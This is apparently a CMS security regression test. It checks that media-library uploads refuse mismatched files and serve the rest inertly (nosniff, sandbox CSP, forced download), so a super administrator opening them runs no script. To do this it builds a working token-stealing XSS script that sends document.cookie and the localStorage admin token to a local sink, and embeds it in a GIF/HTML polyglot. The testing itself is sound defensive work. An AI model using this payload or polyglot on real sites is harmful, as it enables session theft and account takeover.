// Uploads are inert on every origin (docs/spec.md §18.8), the CMS's own included, which also serves the admin
// panel: an Editor's upload whose name, declared type and bytes disagree is refused, and what the CMS's
// `/uploads/` serves — an Editor's GIF with a script inside, or a page that reached the folder some other way —
// runs nothing when a super administrator opens it in Chromium, and their admin token stays theirs.
import { randomBytes } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { browserForFile, DESKTOP } from './browser'
import { signInAt, staffMember } from './staff'

const browser = browserForFile()
const cmsUrl = inject('cmsUrl')

/** Where a script that ran would send what it found: every request here is a script that ran. */
let sink: Server
const stolen: string[] = []
beforeAll(async () => {
  sink = createServer((request, response) => {
    stolen.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve))
})
afterAll(() => new Promise<void>((resolve) => sink.close(() => resolve())))

/** A script that takes the admin's token wherever a script at the CMS's origin would find it. */
const theft = () => {
  const { port } = sink.address() as AddressInfo
  return (
    `<script>new Image().src='http://127.0.0.1:${port}/?t='+encodeURIComponent(document.cookie+'|'+` +
    `localStorage.getItem('jwtToken'));document.title='PWNED';</script>`
  )
}
/** A whole 1×1 GIF with a page after it: its bytes say GIF, a browser that sniffed could read a page. */
const polyglot = () =>
  Buffer.concat([
    Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
    Buffer.from(theft()),
  ])

/** An upload to the media library, as the panel sends it, by the signed-in staff member. */
async function upload(token: string, name: string, type: string, bytes: Buffer) {
  const form = new FormData()
  form.append('files', new Blob([new Uint8Array(bytes)], { type }), name)
  const answer = await fetch(`${cmsUrl}/upload`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: form,
  })
  const body = (await answer.json()) as { url?: string }[] | { error?: { message: string } }
  return { status: answer.status, body }
}

describe('an Editor’s upload, opened by a super administrator', { timeout: 180_000 }, () => {
  it('is refused when its name or type says a page, and runs nothing when it is a picture', async () => {
    const editor = await staffMember('strapi-editor')
    for (const [name, type] of [
      ['menu.html', 'application/octet-stream'],
      ['menu.js', 'application/octet-stream'],
      ['menu.htm', 'image/gif'],
      ['menu.gif', 'text/html'],
      ['menu.png', 'image/png'],
      ['menu.svg', 'image/svg+xml'],
      ['menu', 'application/octet-stream'],
    ] as const) {
      const refused = await upload(editor.token, name, type, polyglot())
      expect(refused.status, `${name} ${type}`).toBe(400)
    }
    // Named and sent as what its bytes are, it is a GIF: taken, and served as one.
    const taken = await upload(editor.token, 'menu.gif', 'application/octet-stream', polyglot())
    expect(taken.status).toBe(201)
    const url = (taken.body as { url: string }[])[0]?.url ?? ''
    expect(url).toMatch(/^\/uploads\/menu_\w+\.gif$/)
    const served = await fetch(`${cmsUrl}${url}`)
    expect(served.headers.get('content-type')).toBe('image/gif')
    expect(served.headers.get('x-content-type-options')).toBe('nosniff')
    expect(served.headers.get('content-security-policy')).toMatch(/^sandbox;/)

    // A page that reached the folder some other way (a restored backup, an older CMS) is a download.
    const legacy = `legacy-${randomBytes(4).toString('hex')}.html`
    writeFileSync(join(inject('cmsUploadsDir'), legacy), `<!doctype html><title>Menu</title>${theft()}`)
    const page = await fetch(`${cmsUrl}/uploads/${legacy}`)
    expect(page.status).toBe(200)
    expect(page.headers.get('content-type')).toBe('application/octet-stream')
    expect(page.headers.get('content-disposition')).toBe('attachment')
    expect(page.headers.get('content-security-policy')).toMatch(/^sandbox;/)

    // The super administrator, signed in to the panel on the same origin, opens both.
    const context = await browser.newContext({ viewport: DESKTOP })
    const tab = await context.newPage()
    await signInAt(tab, inject('cmsAdmin').email, inject('cmsAdmin').password)
    const token = await tab.evaluate(
      () =>
        `${document.cookie.match(/jwtToken=([^;]+)/)?.[1] ?? ''}${localStorage.getItem('jwtToken') ?? ''}`,
    )
    // What the script would steal is there for a script of the CMS's origin.
    expect(token.length).toBeGreaterThan(20)

    const opened = await tab.goto(`${cmsUrl}${url}`)
    expect(opened?.status()).toBe(200)
    expect(await tab.evaluate(() => document.contentType)).toBe('image/gif')
    expect(await tab.title()).not.toBe('PWNED')

    const download = tab.waitForEvent('download')
    await tab.goto(`${cmsUrl}/uploads/${legacy}`).catch(() => undefined)
    expect((await download).suggestedFilename()).toBe(legacy)
    expect(await tab.title()).not.toBe('PWNED')

    // Nothing ran: the sink heard nothing, and the token never left.
    await tab.goto(`${cmsUrl}/admin`)
    expect(stolen).toEqual([])
  })
})
